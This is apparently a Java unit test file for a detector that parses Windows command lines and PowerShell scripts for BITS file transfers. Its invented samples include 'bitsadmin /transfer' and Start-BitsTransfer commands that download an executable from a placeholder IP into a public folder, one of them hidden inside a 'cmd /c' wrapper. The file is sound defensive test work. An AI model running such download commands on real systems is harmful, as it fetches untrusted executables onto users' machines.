package org.bitshound.command;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// What the reader answers beside the table of [CommandLinesTest]. All texts are invented.
class CommandReaderTest {
  private static final String TRANSFER =
      "bitsadmin /transfer n http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe";

  private final CommandReader reader = new CommandReader();

  @Test
  void whatIsNotChangedIsNotDecoded() {
    assertThat(ofProcess(TRANSFER).get(0).decoded()).isEmpty();
  }

  @Test
  void whatStoodInAWrapperIsDecodedAndCounted() {
    Reading reading = ofProcess("cmd /c start /b " + TRANSFER).get(0);

    assertThat(reading.decoded()).contains(TRANSFER);
    assertThat(reading.depth()).isEqualTo(1);
    assertThat(reading.isTransfer()).isTrue();
  }

  @Test
  void eachPairIsAnActionOfItsOwn() {
    Reading reading = ofProcess(TRANSFER + " http://198.51.100.7/b C:\\b").get(0);

    assertThat(reading.actions()).extracting(Action::verb).containsOnly(Verb.TRANSFER).hasSize(2);
    assertThat(reading.actions().get(1).destination()).contains("C:\\b");
  }

  @Test
  void boundParametersAreTheActionThatTheLogShows() {
    Optional<Reading> reading =
        reader.ofCmdlet(
            "Start-BitsTransfer",
            List.of(
                new Binding("Priority", "foreground"),
                new Binding("Source", "http://198.51.100.7/a, http://198.51.100.7/b"),
                new Binding("Destination", "C:\\a, C:\\b")));

    assertThat(Shown.of(reading.stream().toList()))
        .isEqualTo(
            "powershell: transfer http://198.51.100.7/a → C:\\a; transfer"
                + " http://198.51.100.7/b → C:\\b; set-priority = foreground (would-work)");
  }

  @Test
  void aCommaInsideOfANameIsNoList() {
    Optional<Reading> reading =
        reader.ofCmdlet(
            "Start-BitsTransfer", List.of(new Binding("Source", "http://198.51.100.7/a, b.txt")));

    assertThat(reading.orElseThrow().actions().get(0).source())
        .contains("http://198.51.100.7/a, b.txt");
  }

  @Test
  void otherCmdletsAreNone() {
    assertThat(reader.ofCmdlet("Join-Path", List.of(new Binding("Path", "C:\\bits")))).isEmpty();
  }

  @Test
  void theGateIsShutForARenderer() {
    boolean open =
        CommandReader.mightMatter(
            Optional.of("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
            Optional.of("chrome.exe"),
            "chrome.exe --type=renderer --lang=en-US --enable-dinosaur-easter-egg-alt-images");

    assertThat(open).isFalse();
  }

  @Test
  void theVersionResourceIsBelievedBeforeTheName() {
    Optional<String> image = Optional.of("C:\\x\\bitsadmin.exe");
    String line = "bitsadmin /transfer n http://198.51.100.7/a C:\\a";

    assertThat(reader.ofProcess(image, Optional.of("Cmd.Exe"), line).readings()).isEmpty();
    assertThat(reader.ofProcess(image, Optional.of("-"), line).readings()).hasSize(1);
  }

  @Test
  void textThatIsReadWholeSaysSo() {
    assertThat(reader.ofProcess(Optional.empty(), Optional.empty(), TRANSFER).whole()).isTrue();
    assertThat(reader.ofScript("Start-BitsTransfer http://198.51.100.7/a C:\\a").whole()).isTrue();
  }

  @Test
  void functionThatCallsItselfIsReadWhole() {
    Understood understood =
        reader.ofScript(
            "function Walk($d) { Get-ChildItem $d | foreach { Walk $_ } }\n"
                + "Walk C:\\; Start-BitsTransfer http://198.51.100.7/a C:\\a");

    assertThat(understood.whole()).isTrue();
    assertThat(understood.readings()).hasSize(1);
  }

  @ParameterizedTest
  @MethodSource("endless")
  void textThatAsksForMoreWorkThanItGetsSaysSo(String script) {
    assertThat(reader.ofScript(script).whole()).isFalse();
  }

  static Stream<String> endless() {
    String transfer = "Start-BitsTransfer http://198.51.100.7/a C:\\a";
    return Stream.of(
        "foreach ($i in 1..8000) { foreach ($j in 1..8000) { } }; " + transfer,
        "(".repeat(200) + transfer + ")".repeat(200),
        (transfer + "\n").repeat(1_001));
  }

  private List<Reading> ofProcess(String line) {
    return reader.ofProcess(Optional.empty(), Optional.empty(), line).readings();
  }
}
